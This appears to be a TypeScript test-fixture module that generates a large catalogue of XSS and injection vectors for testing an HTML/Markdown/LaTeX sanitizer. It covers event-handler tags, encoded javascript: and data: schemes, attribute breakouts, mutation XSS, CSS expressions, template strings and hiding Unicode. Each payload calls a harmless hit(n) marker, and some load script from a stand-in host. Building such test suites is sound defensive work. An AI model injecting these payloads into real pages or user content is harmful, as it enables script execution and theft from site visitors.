/**
 * Texts that try to become something else: a script, a picture that calls home, a link to code. Every one is put
 * together here, from families that are public knowledge: OWASP's XSS Filter Evasion and DOM XSS cheat sheets, the
 * HTML5 Security Cheatsheet, Heiderich et al., "mXSS Attacks" (2013), CommonMark's and KaTeX's notes on unsafe
 * addresses, Unicode TR 36 on characters that hide or turn text. No list of others is copied.
 *
 * Whatever runs calls `hit(n)`. Pure: no DOM. As JSON lines: `node test/vectors.ts` (Node 22.18 or newer).
 */

/** A text, and what kind of trick it is. */
export interface Vector {
  family: string;
  text: string;
  /** Markdown means some words of it for the machine (a language, a title): they are not shown. */
  silent?: boolean;
}

const zip = <A, B, C>(left: readonly A[], right: readonly B[], make: (a: A, b: B, n: number) => C): C[] =>
  left.flatMap((a, i) => right.map((b, j) => make(a, b, i * right.length + j)));
const mixed = (word: string) => [...word].map((c, n) => (n % 2 ? c.toUpperCase() : c)).join("");
const entities = (word: string, one: (code: number) => string) => [...word].map((c) => one(c.codePointAt(0) ?? 0)).join("");
const wide = (word: string) => [...word].map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0x20) + 0xfee0)).join("");
const percent = (word: string) => entities(word, (code) => `%${code.toString(16).padStart(2, "0")}`);

const QUOTES = ['"', "'", "", "`"];
const GAPS = [" ", "/", "\t", "\n", "\f", "/\r\n/"];

/** Elements that run by themselves, or once somebody comes near. */
const LIVE: readonly [string, string, string][] = [
  ["img src=x", "onerror", ""],
  ["svg", "onload", ""],
  ["body", "onload", ""],
  ["video><source", "onerror", ""],
  ["audio src=x", "onerror", ""],
  ["input autofocus", "onfocus", ""],
  ["select autofocus", "onfocus", "</select>"],
  ["textarea autofocus", "onfocus", "</textarea>"],
  ["details open", "ontoggle", ""],
  ["iframe src=about:blank", "onload", "</iframe>"],
  ["object data=x", "onerror", "</object>"],
  ["embed src=x", "onload", ""],
  ["style", "onload", "</style>"],
  ["link rel=stylesheet href=x", "onerror", ""],
  ["marquee", "onstart", "</marquee>"],
  ["math", "onclick", "</math>"],
  ["a href=#", "onmouseover", "over</a>"],
  ["x-y tabindex=1", "onfocusin", "</x-y>"],
  ["svg><animate attributeName=x", "onbegin", "</svg>"],
  ["button", "onclick", "press</button>"],
];

const live = (n: number): string => {
  const [open, event, close] = LIVE[n % LIVE.length] ?? ["img src=x", "onerror", ""];
  const quote = QUOTES[n % QUOTES.length] ?? "";
  return `<${open} ${event}=${quote}hit(${n})${quote}>${close}`;
};

function elements(): string[] {
  const handlers = zip(LIVE, GAPS, ([open, event, close], gap, n) => {
    const quote = QUOTES[n % QUOTES.length] ?? "";
    const name = n % 3 ? event : mixed(event);
    return `<${open}${gap}${name}${n % 5 ? "" : " "}=${quote}hit(${n})${quote}>${close}`;
  });
  const names = ["script", "SCRIPT", mixed("script"), "script/x", "script\t", "script\n", "scr\u0000ipt", "script type=module", "\u017fcript"];
  const scripts = zip(names, ["hit(1)", "hit`2`", "//<!--\nhit(3)", "self['hi'+'t'](4)"], (name, code) => `<${name}>${code}</script>`);
  const sources = ["//e.example/x.js", "data:,hit(1)", "https://e.example/x.js?<b>", "\\\\e.example\\x"].flatMap((from) => [
    `<script src=${from}></script>`,
    `<<script src="${from}">//<</script>`,
    `</script><script async src='${from}'></script>`,
    `<svg><script href=${from} /></svg>`,
  ]);
  const others = ["iframe srcdoc", "iframe src", "object data", "embed src", "form action", "base href", "frame src", "isindex action", "applet code", "portal src", "meta http-equiv=refresh content"];
  const carriers = zip(others, ["javascript:hit(5)", "data:text/html,<script>hit(6)</script>"], (open, to) => `<${open}="${to}">go</${open.split(" ")[0] ?? ""}>`);
  return [...handlers, ...scripts, ...sources, ...carriers];
}

const CODES: readonly [string, string][] = [
  ["javascript", ":hit(7)"],
  ["javascript", "://e.example/%0ahit(8)"],
  ["vbscript", ":hit(9)"],
  ["data", ":text/html,<script>hit(10)</script>"],
  ["data", ":text/html;base64,PHNjcmlwdD5oaXQoMTEpPC9zY3JpcHQ+"],
  ["data", ":image/svg+xml,<svg onload=hit(12)>"],
  ["file", ":///etc/passwd"],
  ["blob", ":https://e.example/1"],
  ["view-source", ":javascript:hit(13)"],
  ["avatar", "://localhost/../../x"],
];

/** A scheme in every spelling that some reader has fallen for. */
const SPELLINGS: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  mixed,
  (scheme) => entities(scheme, (code) => `&#${code};`),
  (scheme) => entities(scheme, (code) => `&#x${code.toString(16)}`),
  (scheme) => entities(scheme, (code) => `&#${String(code).padStart(7, "0")}`),
  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 3)}\n${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 2)}&Tab;${scheme.slice(2)}&NewLine;`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `\u0000${scheme.slice(0, 2)}\u0000${scheme.slice(2)}`,
  (scheme) => `\u00a0 ${scheme}`,
  (scheme) => percent(scheme),
  (scheme) => percent(percent(scheme)),
  wide,
  (scheme) => `\u202e${scheme}`,
  (scheme) => [...scheme].join("\u200d"),
  (scheme) => `https://e.example@${scheme}`,
  (scheme) => `\\${scheme}`,
  (scheme) => `mailto:${scheme}`,
];

const CARRIERS: readonly ((to: string) => string)[] = [
  (to) => `[press](${to})`,
  (to) => `![picture](${to})`,
  (to) => `[press](<${to}>)`,
  (to) => `<${to}>`,
  (to) => `[press][1]\n\n[1]: ${to}`,
  (to) => `<a href="${to}">press</a>`,
  (to) => to,
];

function addresses(): string[] {
  return zip(CODES, SPELLINGS, ([scheme, rest], spell, n) => (CARRIERS[n % CARRIERS.length] ?? String)(spell(scheme) + rest));
}

const ENDS = [
  '">', "'>", "`>", '"/>', '"]>', "-->", "--!>", "]]>", "?>", "*/", "</textarea>", "</title>", "</style>", "</noscript>", "</template>",
  "</xmp>", "</iframe>", "</math>", "</svg>", "</select>", "</p></div>", "{/if}", "\\\">", "%22%3E", "&quot;&gt;", "\u2028\">",
];

function breakouts(): string[] {
  const bare = ['" onmouseover="hit(20)', "' onfocus=hit(21) autofocus='", "` onclick=hit(22) `", '" style="background:url(javascript:hit(23))', '"onload="hit(24)', "x\" href=\"javascript:hit(25)\" x=\"", "/onerror=hit(26)//", "x onbegin=hit(27) y="];
  return [...zip(ENDS, [0, 1, 4], (end, which, n) => end + live(which + (n % 7))), ...bare];
}

/** Text that is harmless until something writes it out and reads it again. */
function mutations(): string[] {
  const foreign = ["svg", "math"];
  const points = ["foreignObject", "desc", "title", "mtext", "mi", "annotation-xml encoding=text/html", "mglyph"];
  const raw = ["style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "template", "plaintext", "script"];
  const nested = zip(foreign, points, (outer, point, n) =>
    raw.map((inner, m) => {
      const shot = live(n + m);
      const hidden = m % 2 ? `<a id="</${inner}>${shot}">` : `<!--</${inner}>${shot}-->`;
      return `<${outer}><${point}>${n % 3 ? "" : "<table>"}<${inner}>${hidden}</${inner}></${outer}>`;
    }),
  ).flat();
  const titled = raw.map((inner, n) => `<${inner}><p title="</${inner}>${live(n)}">`);
  const forms = foreign.map((outer, n) => `<form><${outer}><mtext></form><form><mglyph><style></${outer}>${live(n)}`);
  return [...nested, ...titled, ...forms];
}

function remarks(): string[] {
  const around: readonly ((shot: string) => string)[] = [
    (shot) => `<!-->${shot}-->`,
    (shot) => `<!--->${shot}-->`,
    (shot) => `<!-- --!>${shot}-->`,
    (shot) => `<!--<!-->${shot}`,
    (shot) => `<![CDATA[${shot}]]>`,
    (shot) => `<svg><![CDATA[><${shot}]]></svg>`,
    (shot) => `<?xml version="1.0"?>${shot}`,
    (shot) => `<!DOCTYPE x [<!ENTITY a "${shot}">]>&a;`,
    (shot) => `<!--[if gte IE 4]>${shot}<![endif]-->`,
    (shot) => `</ ${shot}>`,
    (shot) => `<% ${shot} %>`,
  ];
  return zip(around, [0, 1, 9], (wrap, which) => wrap(live(which)));
}

const SHOTS = [live(0), live(1), "<script>hit(30)</script>", "javascript:hit(31)", '"><b onclick=hit(32)>'];

function markdown(): Vector[] {
  const shown: readonly ((shot: string) => string)[] = [
    (shot) => `[${shot}](https://e.example)`,
    (shot) => `[x](https://e.example/${shot})`,
    (shot) => `[x](https://e.example/"${shot})`,
    (shot) => `![${shot}](https://e.example/p.png)`,
    (shot) => `https://e.example/?q=${shot}`,
    (shot) => `<https://e.example/#${shot}>`,
    (shot) => `| a | ${shot} |\n|:-:|---|\n| ${shot} | b |`,
    (shot) => `# ${shot} #`,
    (shot) => `> > ${shot}`,
    (shot) => `- [x] ${shot}\n  1. ${shot}`,
    (shot) => `**${shot}** _${shot}_ ~~${shot}~~`,
    (shot) => `\`${shot}\` \`\`${shot}\`\``,
    (shot) => `\`\`\`js\n${shot}\n\`\`\``,
    (shot) => `@${shot} @all${shot} ~${shot} #${shot}`,
    (shot) => `:${shot}: :+1${shot}: :hit(1):`,
    (shot) => `[^1]\n\n[^1]: ${shot}`,
    (shot) => `[a [${shot}](https://e.example) b](https://f.example)`,
    (shot) => `\\${shot}\\`,
    (shot) => `    ${shot}\n\n\t${shot}`,
    (shot) => `<b>\n\n${shot}\n\n</b>`,
  ];
  const silent: readonly ((shot: string) => string)[] = [
    (shot) => `\`\`\`${shot}\nx\n\`\`\``,
    (shot) => `~~~js"${shot}\nx\n~~~`,
    (shot) => `\`\`\`__proto__\n${shot}\n\`\`\`\n\`\`\`constructor\nx\n\`\`\``,
    (shot) => `[x](https://e.example "${shot}")`,
  ];
  const made = (list: typeof shown, more: Partial<Vector>) => zip(list, SHOTS, (wrap, shot) => ({ family: "markdown", text: wrap(shot), ...more }));
  return [...made(shown, {}), ...made(silent, { silent: true })];
}

function latex(): string[] {
  const inside = ["\\href{javascript:hit(40)}{x}", "\\url{javascript:hit(41)}", "\\includegraphics{javascript:hit(42)}", "\\htmlStyle{x:expression(hit(43))}{x}", "\\htmlData{x=\"onload=hit(44)}{x}", "\\text{<img src=x onerror=hit(45)>}", "\\def\\x{\\x\\x}\\x", "\\unicode{<script>hit(46)</script>}"];
  const marks: readonly [string, string][] = [["$$", "$$"], ["$", "$"], ["\\(", "\\)"], ["\\[", "\\]"], ["```js\n", "\n```"]];
  return zip(inside, marks, (body, [open, close]) => open + body + close);
}

/** Characters that hide, turn, break or are none. Each before, within and behind. */
const ODD = ["\u0000", "\u000b", "\u001b[31m", "\u007f", "\u0085", "\u00ad", "\u061c", "\u200b", "\u200f", "\u2028", "\u202e", "\u2066", "\u2069", "\ufeff", "\ufffe", "\ud800", "\udc00", "\u{e0041}", "e\u0301".repeat(3) + "\u0336".repeat(40), "\u{10ffff}"];

function letters(): string[] {
  return zip(ODD, [0, 1, 2], (odd, where) => {
    const shot = live(where);
    return where === 0 ? `${odd}${shot}` : where === 1 ? `<${odd}img src=x one${odd}rror=hit(50)>photo${odd}gnp.exe` : `${shot.slice(0, 4)}${odd}${shot.slice(4)}${odd}`;
  });
}

function styles(): string[] {
  const rules = ["background:url(javascript:hit(60))", "width:expression(hit(61))", "-moz-binding:url(//e.example/x#y)", "behavior:url(x.htc)", "position:fixed;inset:0;z-index:9999", "@import 'javascript:hit(62)'"];
  return rules.flatMap((rule) => [`<style>*{${rule}}</style>`, `<div style="${rule}">x</div>`, `" style="${rule}`, `<link rel=stylesheet href="data:text/css,*{${rule}}">`]);
}

/** What other languages would fill in, and names that every object has. */
function blanks(): string[] {
  const code = ["{{constructor.constructor('hit(70)')()}}", "${hit(71)}", "{@html hit(72)}", "<%= hit(73) %>", "#{hit(74)}", "{name}", "{lead}", "$& $1 $` $'", "%s%n%x", "{n, plural, other {hit(75)}}"];
  const names = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "undefined", "null", "NaN", "innerHTML", "text"];
  return [...code, ...names, ...names.map((name) => `:${name}: @${name}`)];
}

function long(): string[] {
  const a = "a".repeat(4_000);
  return [`<img alt="${a}" onerror=hit(80) src=x>`, `<${a} onclick=hit(81)>`, `<img ${"x=y ".repeat(900)}onerror=hit(82)>`, `[${a}](javascript:hit(83))`, `https://e.example/${a}"onload=hit(84)`, `<a href="${" ".repeat(3_000)}javascript:hit(85)">x</a>`, `:${a}:`, `@${a}`];
}

/** All of them, none twice. */
export function vectors(): Vector[] {
  const of = (family: string, texts: readonly string[]): Vector[] => texts.map((text) => ({ family, text }));
  const all = [
    ...of("elements", elements()),
    ...of("addresses", addresses()),
    ...of("breakouts", breakouts()),
    ...of("mutations", mutations()),
    ...of("remarks", remarks()),
    ...markdown(),
    ...of("latex", latex()),
    ...of("letters", letters()),
    ...of("styles", styles()),
    ...of("blanks", blanks()),
    ...of("long", long()),
  ];
  return [...new Map(all.map((one) => [one.text, one])).values()];
}

/** One JSON object a line; half characters are written as escapes. */
export function lines(): string {
  return vectors().map(({ family, text }) => JSON.stringify({ family, text })).join("\n");
}

if (typeof process !== "undefined" && process.argv[1]?.endsWith("vectors.ts")) process.stdout.write(`${lines()}\n`);
